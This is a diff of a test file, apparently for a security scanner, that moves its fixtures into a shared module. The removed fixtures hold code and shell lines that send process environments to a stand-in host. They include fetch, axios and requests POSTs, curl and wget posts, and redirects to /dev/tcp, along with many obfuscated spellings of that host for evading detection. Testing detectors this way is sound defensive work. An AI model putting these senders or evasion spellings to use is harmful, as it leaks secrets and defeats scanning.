@@ -6,69 +6,13 @@ import { riskOf } from '../risk.ts';
 import { allRules } from '../rules/all.ts';
 import { scan } from '../scan.ts';
 import { testBuild } from '../test-build.ts';
-
-const NAME = 'c.other-metrics.com';
-const STARTS = [
-  ['https://', 'http://', 'https:/', 'https:', 'https:///', 'https:////', 'HtTPs://'],
-  ['https:\\\\', 'https:/\\', 'https:\\/', 'https:\\', ' https://', '\t\u0001https://'],
-  ['ht\ntps://', 'https:\r//', 'https://\t', 'https://user@', 'https://user:word@'],
-  ['https://github.com@', 'https://registry.npmjs.org:443@', 'https://github.com%2F@'],
-  ['https://a@b@', 'https://@', 'https://:@', 'https://127.0.0.1@', 'https://localhost:80@'],
-].flat();
-const ENDS = [
-  ['', '/', ':/x', ':443/x', ':00443/x', './x', '?x', '#x', '\\x', '\\@github.com/x', '\u0001'],
-  ['/@github.com/x', '/x \n', '/\t\r\n'],
-].flat();
-const HOSTS = [
-  ['c\u3002other-metrics\u3002com', 'c\uff0eother-metrics.com', 'c\uff61other-metrics.com'],
-  ['%63.other-metrics.com', 'c%2eother-metrics%2Ecom', 'C.OTHER-Metrics.Com'],
-  ['\uff43.other-metrics.com', '\u24d2.other-metrics.com', '\u{1d41c}.other-metrics.com'],
-  ['c.oth\u00ader-metrics.com', 'c.oth\u200ber-metrics.com', 'c.oth\ter-metrics\n.com'],
-  ['10.other-metrics.com', 'fdn-metrics.com', 'fc00.other-metrics.com', '127.0.0.1.nip.io'],
-  ['localhost.other-metrics.com', '192.168.0.1.other-metrics.com', 'fe80-metrics.com'],
-  ['45.9.148.3', '0x2d.9.148.3', '0x2D099403', '755602435', '055.011.0224.03', '45.9.37891'],
-  ['45.627715', '%34%35.9.148.3', '\uff14\uff15.9.148.3', '45\u30029.148.3', '45.9.148.3.'],
-  ['[2001:470::1]', '[2001:0470:0:0:0:0:0:1]', '[::ffff:45.9.148.3]', '[2600::1]:8080'],
-  ['$a.other-metrics.com', 'a_b.other-metrics.com', '{a}.other-metrics.com'],
-].flat();
-const SPELLINGS = [
-  ...STARTS.map((start) => `${start}${NAME}/x`),
-  ...ENDS.map((end) => `https://${NAME}${end}`),
-  ...HOSTS.map((host) => `https://${host}/x`),
-];
-
-const BODY = "{ method: 'POST', body: JSON.stringify(process.env) }";
-const ENVIRONMENT = 'import os, requests, urllib.request as r\n';
-/** A file that sends the environment; the argument is a literal of its language. */
-const SENDERS: Readonly<Record<string, readonly [string, (literal: string) => string]>> = {
-  fetch: ['a.ts', (to) => `void fetch(${to}, ${BODY});`],
-  'fetch of a URL': ['a.ts', (to) => `void fetch(new URL(${to}, 'https://github.com'), ${BODY});`],
-  'fetch of a Request': ['a.ts', (to) => `void fetch(new Request(${to}, ${BODY}));`],
-  'http.request': [
-    'a.cjs',
-    (to) => `require('https').request(${to}, { method: 'POST' }).end(JSON.stringify(process.env));`,
-  ],
-  'undici.request': ['a.cjs', (to) => `require('undici').request(${to}, ${BODY});`],
-  'undici.request with an origin': [
-    'a.cjs',
-    (to) => `require('undici').request({ origin: ${to}, path: '/x', ...${BODY} });`,
-  ],
-  'axios.post': ['a.cjs', (to) => `require('axios').post(${to}, process.env);`],
-  axios: [
-    'a.cjs',
-    (to) => `require('axios')({ url: ${to}, method: 'post', data: { ...process.env } });`,
-  ],
-  'axios with a base': [
-    'a.cjs',
-    (to) => `require('axios').create({ baseURL: ${to} }).post('/y', process.env);`,
-  ],
-  'requests.post': ['a.py', (to) => `${ENVIRONMENT}requests.post(${to}, json=dict(os.environ))`],
-  urlopen: ['a.py', (to) => `${ENVIRONMENT}r.urlopen(${to}, data=str(os.environ).encode())`],
-  Request: [
-    'a.py',
-    (to) => `${ENVIRONMENT}r.urlopen(r.Request(${to}, data=str(os.environ).encode()))`,
-  ],
-};
+import {
+  SENDERS,
+  SENDING_LINES,
+  SENDING_REDIRECTS,
+  SPELLINGS,
+  hostOf,
+} from '../../tests/spelled-addresses.ts';
 
 function judge(path: string, code: string): { risk: string; gained: readonly string[] } {
   const build = testBuild({ [path]: code });
@@ -78,8 +22,6 @@ function judge(path: string, code: string): { risk: string; gained: readonly str
 }
 
 describe('an address that sends the environment', () => {
-  const hostOf = (text: string): string => new URL(text).hostname.replace(/\.$/, '');
-
   it('is spelled in at least 40 ways', () => {
     expect(new Set(SPELLINGS).size).toBeGreaterThan(40);
   });
@@ -108,11 +50,7 @@ describe('an address that sends the environment', () => {
     expect(missed).toEqual([]);
   });
 
-  it.each([
-    `curl -d "$(env)" 'TO'`,
-    `env | curl -d @- --url='TO'`,
-    `wget --post-data="$(env)" 'TO'`,
-  ])('is seen in %s, in a file and in code', (command) => {
+  it.each(SENDING_LINES)('is seen in %s, in a file and in code', (command) => {
     const missed = SPELLINGS.filter((text) => {
       const line = command.replace('TO', () => text);
       const { risk, gained } = judge(
@@ -125,9 +63,9 @@ describe('an address that sends the environment', () => {
     expect(missed).toEqual([]);
   });
 
-  it.each(['env > TO', 'printenv >TO', 'cat <(env) > TO'])('is seen in %s', (command) => {
+  it.each(SENDING_REDIRECTS)('is seen in %s', (command) => {
     const missed = SPELLINGS.map((text) => hostOf(text).replaceAll(/[[\]]/g, '')).filter((host) => {
-      const line = command.replace('TO', () => `/dev/tcp/${host}/443`);
+      const line = command.replace('TO', () => host);
       return judge('a.sh', `${line}\n`).risk === 'ok';
     });
     expect(missed).toEqual([]);
